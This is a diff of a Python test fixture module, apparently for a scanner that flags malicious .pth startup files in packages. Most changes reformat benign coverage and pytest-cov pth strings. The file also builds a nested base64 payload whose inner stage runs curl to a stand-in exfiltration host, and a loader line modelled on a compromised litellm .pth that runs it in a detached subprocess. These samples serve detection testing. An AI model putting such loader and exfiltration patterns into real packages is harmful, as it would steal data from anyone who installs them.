@@ -27,14 +27,14 @@ DISTUTILS_PRECEDENCE = (
 )
 PYTEST_COV = (
     b"import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n"
-    b"  init()\\n except Exception as exc:\\n  sys.stderr.write(\\n   \"pytest-cov: Failed to setup subprocess "
+    b'  init()\\n except Exception as exc:\\n  sys.stderr.write(\\n   "pytest-cov: Failed to setup subprocess '
     b'coverage. "\\n   "Environ: {0!r} "\\n   "Exception: {1!r}\\\\n".format(\\n    dict((k, v) for k, v in '
     b"os.environ.items() if k.startswith(\\'COV_CORE\\')),\\n    exc\\n   )\\n  )\\n')\n"
 )
 COVERAGE = (
-    b"import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or "
+    b'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
     b'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  '
-    b"coverage.process_startup(slug=\"pth\")')\n"
+    b'coverage.process_startup(slug="pth")\')\n'
 )
 COVERAGE_ENABLE_SUBPROCESS = (
     b"import sys; exec(u'try:\\n    import coverage\\n# coverage throws OSError when $PWD does not exist\\n"
@@ -67,7 +67,7 @@ _STAGE2 = base64.b64encode(b"import os\nos.system('curl -s https://exfil.invalid
 _STAGE1 = base64.b64encode(f"import base64\nexec(base64.b64decode('{_STAGE2}'))\n".encode()).decode()
 #: The shape of litellm 1.82.8's `litellm_init.pth`: a child interpreter running nested base64.
 LITELLM_LINE = (
-    "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; "
+    'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; '
     f"exec(base64.b64decode('{_STAGE1}'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, "
     "start_new_session=True)\n"
 ).encode()
@@ -130,16 +130,19 @@ FIXTURES: dict[str, tuple[Builder, Builder]] = {
 }
 
 
-
 class DictArtifact(Artifact):
     """An artifact over a dict of files, with `install_path` set the way installers do."""
 
-    def __init__(self, files: Mapping[str, bytes], kind: ArtifactKind = ArtifactKind.WHEEL, label: str = "demo") -> None:
+    def __init__(
+        self, files: Mapping[str, bytes], kind: ArtifactKind = ArtifactKind.WHEEL, label: str = "demo"
+    ) -> None:
         self.ref = ArtifactRef(kind, label, label=label)
         self.metadata = None
         self._files = dict(files)
         wheel = kind is ArtifactKind.WHEEL
-        self._members = [Member(p, len(d), install_path=wheel_install_path(p) if wheel else "") for p, d in files.items()]
+        self._members = [
+            Member(p, len(d), install_path=wheel_install_path(p) if wheel else "") for p, d in files.items()
+        ]
 
     def members(self) -> list[Member]:
         return self._members
